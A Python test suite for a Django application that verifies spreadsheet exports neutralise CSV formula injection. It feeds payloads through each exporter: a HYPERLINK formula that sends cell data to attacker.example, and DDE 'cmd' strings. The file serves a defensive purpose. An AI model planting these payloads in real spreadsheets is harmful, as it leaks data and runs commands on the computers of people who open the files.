"""No export writes a live formula (OWASP's "CSV injection"): every CSV, XLSX and ODS
cell that starts with = + - @ or a tab or carriage return is neutralised by the one
shared helper, numbers stay numbers, and the catalogue's export still reads back
exactly. The list of exporters is checked against the code: a module that writes a
spreadsheet without a test here fails the suite."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import lien
from lien.accounts.roles import Role
from lien.audit.models import Action
from lien.audit.services import record
from lien.casefiles.imports.reading import COLUMNS
from lien.spreadsheet_safety import TRIGGERS, neutralise, restore, safe_row
from tests.prepared_files import download_prepared

from ..factories import OfficeFactory, member

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


# --- the helper ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_as_a_formula_is_quoted_and_read_back(payload):
    assert neutralise(payload) == "'" + payload and restore(neutralise(payload)) == payload


def test_numbers_and_harmless_text_are_left_as_they_are():
    for value in (-3, 0, 2.5, None, "", "Ménages reçus", "A-1", "'quoted", "-3", "-12,5", "+4"):
        assert neutralise(value) == value and restore(neutralise(value)) == value
    assert safe_row([-3, "=1", None]) == [-3, "'=1", None]


def test_the_quote_itself_reads_back_exactly():
    for value in ("'=1+1", "''-x", "'@a"):
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value


def test_a_lazily_translated_label_is_neutralised_too():
    from django.utils.translation import gettext_lazy

    assert neutralise(gettext_lazy("=1+1")) == "'=1+1"


# --- reading what each export wrote, as a spreadsheet program would ---------------------


def _csv_cells(body: bytes) -> list[tuple[object, bool]]:
    text = body.decode("utf-8-sig")
    return [(cell, False) for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(body: bytes) -> list[tuple[object, bool]]:
    workbook = load_workbook(io.BytesIO(body))  # not data_only: formulas show as formulas
    return [
        (cell.value, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


_ODS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


def _ods_cells(body: bytes) -> list[tuple[object, bool]]:
    xml = zipfile.ZipFile(io.BytesIO(body)).read("content.xml")
    content = ElementTree.fromstring(xml)  # noqa: S314 - what Lien itself just wrote
    cells = []
    for cell in content.iter(f"{{{_ODS['table']}}}table-cell"):
        formula = cell.get(f"{{{_ODS['table']}}}formula") is not None
        if cell.get(f"{{{_ODS['office']}}}value-type") == "float":
            cells.append((float(cell.get(f"{{{_ODS['office']}}}value")), formula))
        else:
            cells.append(("".join(cell.itertext()), formula))
    return cells


def _assert_safe(cells, *, payloads=PAYLOADS) -> None:
    """No formula, no text that a spreadsheet program would run, and every payload
    present, quoted (else the export was not given it, and the test proves nothing)."""
    for value, formula in cells:
        assert not formula, value
        if isinstance(value, str) and value[:1] in TRIGGERS:
            assert _PLAIN_NUMBER.fullmatch(value), value
    texts = [value for value, _formula in cells if isinstance(value, str)]
    for payload in payloads:
        written = "'" + _as_xml_keeps_it(payload)
        assert any(_as_xml_keeps_it(text).startswith(written) for text in texts), payload


def _as_xml_keeps_it(text: str) -> str:
    return text.replace("\r", "\n")  # XML (XLSX, ODS) reads a carriage return as a line feed


# --- every export ----------------------------------------------------------------------


def _published_grid():
    """A published grid with a payload wherever text goes, and a negative count."""
    from lien.stats import exports

    first, second, third, fourth, fifth, sixth = PAYLOADS
    row = SimpleNamespace(
        label=fourth, cells=[SimpleNamespace(value=-3), SimpleNamespace(value=None)]
    )
    table = SimpleNamespace(
        title=second,
        columns=[third, "Total"],
        rows=[row],
        table=SimpleNamespace(code="t"),
        threshold=5,
    )
    published = SimpleNamespace(
        grid=SimpleNamespace(title=first, code="activity"),
        year=2025,
        office=None,
        scope_label=fifth,
        sources=[
            SimpleNamespace(office=SimpleNamespace(name="A", code="A"), typed=False, computed=True)
        ],
        tables=[table, SimpleNamespace(**{**vars(table), "title": sixth})],
    )
    return exports, published


def _stats_exports(client, world):
    exports, published = _published_grid()
    spreadsheets = [
        _csv_cells(exports.to_csv(published)),
        _xlsx_cells(exports.to_xlsx(published)),
        _ods_cells(exports.to_ods(published)),
    ]
    # The negative count stays a number in every format.
    assert "-3" in [value for value, _f in spreadsheets[0]]
    assert -3 in [value for value, _f in spreadsheets[1]]
    assert -3.0 in [value for value, _f in spreadsheets[2]]
    return spreadsheets


def _audit_extract(client, world):
    worker = world.users[Role.SOCIAL_WORKER]
    for payload in PAYLOADS:
        record(actor=worker, action=Action.UPDATE, reason=payload)
    client.force_login(world.users[Role.DPO])
    client.post("/account/confirm/", {"password": "test-password-123"})
    today = timezone.localdate()
    response = client.post(
        "/audit/extract/",
        {
            "since": (today - timedelta(days=1)).isoformat(),
            "until": today.isoformat(),
            "reason": "Plainte du 3 mars",
            "subject": "agent",
            "username": worker.username,
        },
    )
    response = download_prepared(client, response)  # written by the task worker
    assert response["Content-Type"].startswith("text/csv")
    return [_csv_cells(response.content)]


def _catalog_export(client, world):
    from lien.catalog import exchange, selectors
    from lien.catalog.loader import load_catalog

    load_catalog()
    admin = member(Role.ADMIN, OfficeFactory())
    items = list(selectors.catalog_items_for(actor=admin))[: len(PAYLOADS)]
    for item, payload in zip(items, PAYLOADS, strict=True):
        item.label_fr = item.help_en = payload
    body = exchange.to_xlsx(items)
    # Read back (the catalogue's import, which trims each cell), every label is what was
    # exported, without the quote.
    labels = [(row["label_fr"], row["help_en"]) for row in exchange.read_xlsx(body)]
    expected = [_as_xml_keeps_it(payload).strip() for payload in PAYLOADS]
    assert labels == list(zip(expected, expected, strict=True))
    return [_xlsx_cells(body)]


def _import_template(client, world):
    client.force_login(world.users[Role.MANAGER])
    response = client.get(reverse("household_import_template"))
    cells = _csv_cells(response.content)
    assert [value for value, _f in cells] == list(COLUMNS)
    return []  # fixed column names: nothing a user typed reaches it


def _stats_page_export(client, world):
    """The reported case, through the page: an office named like a formula."""
    from lien.stats.services import record_event

    office = OfficeFactory(name=PAYLOADS[0])
    record_event(
        kind="visit",
        day=timezone.localdate().replace(month=5, day=2),
        office_id=office.pk,
        household_id=1,
        situation={"household_status": "new", "housing": "owner"},
    )
    client.force_login(member(Role.STATISTICIAN, office))
    spreadsheets = []
    for fmt, read in (("csv", _csv_cells), ("xlsx", _xlsx_cells), ("ods", _ods_cells)):
        asked = client.get(
            reverse("stats_export", args=[fmt]),
            {"grid": "activity", "office": office.code, "year": timezone.localdate().year},
        )
        spreadsheets.append(read(download_prepared(client, asked).content))
    return spreadsheets


def _payment_batch_export(client, world):
    """A payee and an account holder named like formulas, in the finance software's CSV."""
    from lien.casefiles.models import BankDetails, PaymentBatch, PaymentOrder, PaymentStatus
    from lien.casefiles.payments import exports, selectors

    from ..casefiles.committees.schemes import scheme, submitted

    fsl = scheme()
    batch = PaymentBatch.objects.create(created_by=world.file.referent)
    for payload in PAYLOADS:
        order = PaymentOrder.objects.create(
            aid_request=submitted(world.file, fsl),
            amount=100,
            payee_kind="landlord",
            payee_name=payload,
            ordered_by=world.file.referent,
            batch=batch,
            status=PaymentStatus.EXPORTED,
        )
        BankDetails.objects.create(order=order, holder=payload, iban="FR7630006000011234567890189")
    secretary = member(Role.COMMITTEE_SECRETARY, world.office)
    batch, lines = selectors.batch_export_for(actor=secretary, pk=batch.pk)
    return [_csv_cells(exports.batch_csv(batch, lines).encode())]


# Each module that writes a spreadsheet, and the test that feeds it formulas.
EXPORTERS = {
    "lien/stats/exports.py": [_stats_exports, _stats_page_export],
    "lien/web/audit/prepared.py": [_audit_extract],
    "lien/catalog/exchange.py": [_catalog_export],
    "lien/casefiles/imports/views.py": [_import_template],
    "lien/casefiles/payments/exports.py": [_payment_batch_export],
}
_WRITES_A_SPREADSHEET = re.compile(
    r"csv\.(writer|DictWriter)|\bWorkbook\(|OpenDocumentSpreadsheet|\btablib\b|text/csv"
)


def test_every_module_that_writes_a_spreadsheet_is_tested_here_and_uses_the_helper():
    root = Path(lien.__file__).parent
    writers = {
        str(path.relative_to(root.parent))
        for path in root.rglob("*.py")
        if "migrations" not in path.parts
        and _WRITES_A_SPREADSHEET.search(path.read_text(encoding="utf-8"))
    }
    assert writers == set(EXPORTERS), (
        "A module writes CSV, XLSX or ODS: write its cells through "
        "lien.spreadsheet_safety and add it to EXPORTERS with a test."
    )
    for module in writers:
        assert "lien.spreadsheet_safety" in (root.parent / module).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "export", [f for exporters in EXPORTERS.values() for f in exporters], ids=lambda f: f.__name__
)
def test_every_export_neutralises_formulas(client, world, export):
    spreadsheets = export(client, world)
    payloads = [PAYLOADS[0]] if export is _stats_page_export else PAYLOADS
    for cells in spreadsheets:
        _assert_safe(cells, payloads=payloads)
